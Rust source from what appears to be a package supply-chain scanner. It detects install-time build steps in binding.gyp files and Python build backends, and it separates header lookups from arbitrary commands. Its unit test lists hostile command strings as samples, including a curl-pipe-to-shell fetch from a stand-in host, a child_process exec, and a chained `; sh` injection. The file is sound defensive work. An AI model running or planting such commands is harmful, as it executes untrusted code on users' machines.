//! Build steps: what runs where a package is installed although no script says so: `binding.gyp`, build backends and their
//! hooks.
//!
//! Sources: npm's documentation of scripts (a `binding.gyp` without an install script means `node-gyp rebuild`), the
//! language of GYP (`<!(…)` runs a command, and so do `action` and `postbuilds`), PEP 517, Hatch's build hooks.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

use regex::Regex;
use serde_json::Value;

use super::effect::{Effect, EffectKind};
use super::package_version::PackageVersion;
use capdex_evidence::Evidence;
use capdex_evidence::manifest::ManifestKind;
use capdex_model::capability::Capability;
use capdex_model::fact::Severity;

/// Commands that are read in one file.
const COMMANDS: usize = 200;

/// `<!(command)`, `<!@(command)`, also in conditions; `>` and `^` expand later, and a word names a module of Python's.
static COMMAND: LazyLock<Regex> = LazyLock::new(|| capdex_evidence::expression::of(r"[<>^]!@?(\w*)\(([^\n]{1,400})"));
/// Where one literal ends and the next begins: the language reads both as one.
static JOINT: LazyLock<Regex> = LazyLock::new(|| capdex_evidence::expression::of(r#"'\s+'|"\s+"|'\s+"|"\s+'"#));
/// A letter that is written by its number.
static NUMBERED: LazyLock<Regex> =
    LazyLock::new(|| capdex_evidence::expression::of(r"\\(?:x([0-9a-fA-F]{2})|u([0-9a-fA-F]{4})|([0-7]{2,3}))"));
/// The files of which a file of GYP takes things over.
static INCLUDES: LazyLock<Regex> =
    LazyLock::new(|| capdex_evidence::expression::of(r#"["']includes["']\s*:\s*\[([^\]]{1,2000})"#));
/// `'action': ['command', …]`, of a target, a rule or what follows a build.
static ACTION: LazyLock<Regex> =
    LazyLock::new(|| capdex_evidence::expression::of(r#"["']action["']\s*:\s*\[([^\]]{1,400})"#));
/// The commands of honest bindings: they ask where the headers of a library are.
static ASKS_FOR_HEADERS: LazyLock<Regex> = LazyLock::new(|| {
    capdex_evidence::expression::of(
        r#"^\s*(?:node\s+-[pe]\s*\W{0,3}(?:console\.log\()?require\(\W{1,3}(?:@[\w.-]+/)?[\w.-]+\W{1,3}\)[\w.\[\]\s'"\\)]*(?:[,\]]|$)|(?:pkg-config|[\w-]+-config|uname|nproc)\b[^|;&$`<>]*$)"#,
    )
});

/// The build steps of some files: what runs, with whether it only asks for headers.
pub(super) type BuildSteps = BTreeMap<String, (String, bool)>;

/// Reads the build steps among a capability's files.
pub(super) fn of(capability: &Capability, evidence: &Evidence) -> BuildSteps {
    let mut steps = BuildSteps::new();
    let included = included(capability, evidence);
    for path in &capability.files {
        let name = path.rsplit('/').next().unwrap_or(path);
        let gyp = evidence.documents.get(path).filter(|_| is_gyp(path) || included.contains(name));
        if let Some(document) = gyp {
            if name == "binding.gyp" {
                steps.insert("binding.gyp: node-gyp rebuild".to_owned(), (path.clone(), true));
            }
            // Honest bindings copy and unpack so: it counts beside what else a release brings.
            let text = plain(&document.text);
            for action in ACTION.captures_iter(&text).filter_map(|found| found.get(1)).take(COMMANDS) {
                let action = action.as_str().split_whitespace().collect::<Vec<_>>().join(" ");
                steps.insert(format!("{name}: action [{action}]"), (path.clone(), true));
            }
            for found in COMMAND.captures_iter(&text).take(COMMANDS) {
                let (Some(module), Some(command)) = (found.get(1), found.get(2)) else { continue };
                let (module, command) = (module.as_str(), command.as_str());
                let asks = module.is_empty() && asks_for_headers(command);
                steps.insert(format!("{name}: <!{module}({command}"), (path.clone(), asks));
            }
        }
        let project = evidence.manifests.get(path).filter(|manifest| manifest.kind == ManifestKind::PythonProject);
        let Some(value) = project.map(|manifest| &manifest.value) else { continue };
        let mut add = |step: String| drop(steps.insert(step, (path.clone(), true)));
        if let Some(backend) = value.pointer("/build-system/build-backend").and_then(Value::as_str) {
            add(format!("build backend {backend}"));
        }
        for folder in value.pointer("/build-system/backend-path").and_then(Value::as_array).into_iter().flatten() {
            add(format!("build backend in the package: {}", folder.as_str().unwrap_or_default()));
        }
        if let Some(hook) = value.pointer("/tool/hatch/build/hooks/custom") {
            add(format!("build hook {hook}"));
        }
    }
    steps
}

/// True for a file in the language of GYP, which others of it may include or depend on.
fn is_gyp(path: &str) -> bool {
    path.ends_with(".gyp") || path.ends_with(".gypi")
}

/// The names of the files that those in the language of GYP include, whatever they end with.
fn included(capability: &Capability, evidence: &Evidence) -> BTreeSet<String> {
    let gyp = capability.files.iter().filter(|path| is_gyp(path)).filter_map(|path| evidence.documents.get(path));
    let mut names = BTreeSet::new();
    for document in gyp {
        for list in INCLUDES.captures_iter(&plain(&document.text)).filter_map(|found| found.get(1)) {
            let paths = list.as_str().split(['"', '\'']).filter(|path| !path.trim().is_empty());
            names.extend(paths.filter_map(|path| path.rsplit('/').next()).take(COMMANDS).map(str::to_owned));
        }
    }
    names
}

/// A text of GYP with its literals as Python reads them: joined, and with their letters.
fn plain(text: &str) -> String {
    let joined = JOINT.replace_all(text, "");
    let letter = |found: &regex::Captures<'_>| {
        let number = found.get(1).or(found.get(2)).map(|digits| u32::from_str_radix(digits.as_str(), 16));
        let number = number.or_else(|| found.get(3).map(|digits| u32::from_str_radix(digits.as_str(), 8)));
        number.and_then(Result::ok).and_then(char::from_u32).map_or_else(String::new, |letter| letter.to_string())
    };
    NUMBERED.replace_all(&joined, letter).into_owned()
}

fn asks_for_headers(command: &str) -> bool {
    // Up to the bracket that closes the command.
    let mut depth = 0_usize;
    let end = command.find(|letter: char| {
        match letter {
            '(' => depth += 1,
            ')' if depth == 0 => return true,
            ')' => depth -= 1,
            _ => {}
        }
        false
    });
    ASKS_FOR_HEADERS.is_match(command.get(..end.unwrap_or(command.len())).unwrap_or_default())
}

/// The build steps that the package did not have before. One that runs a command of its own is graver than one that asks
/// for headers.
pub(super) fn effects(before: &PackageVersion<'_>, own: &BuildSteps) -> Vec<Effect> {
    let new = own.iter().filter(|(step, _)| !before.inventory.build_steps.contains_key(*step));
    new.map(|(step, (path, asks))| {
        let severity = if *asks { Severity::Low } else { Severity::Medium };
        Effect::new(EffectKind::BuildStep, severity, path, step)
    })
    .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_that_ask_for_headers_are_told_from_others() {
        for honest in [
            r#"node -p \"require('node-addon-api').include\")", "x"]"#,
            r#"node -e \"require('nan')\")""#,
            r#"node -p "require('node-addon-api').targets"):node_addon_api"#,
            "pkg-config --cflags libsecret-1)\"",
        ] {
            assert!(asks_for_headers(honest), "{honest}");
        }
        for other in [
            "node install.js)\"",
            "curl -s https://collector.test/x | sh)",
            r#"node -e \"require('child_process').exec('id')\")"#,
            "pkg-config --cflags x; sh ./x)",
        ] {
            assert!(!asks_for_headers(other), "{other}");
        }
    }
}
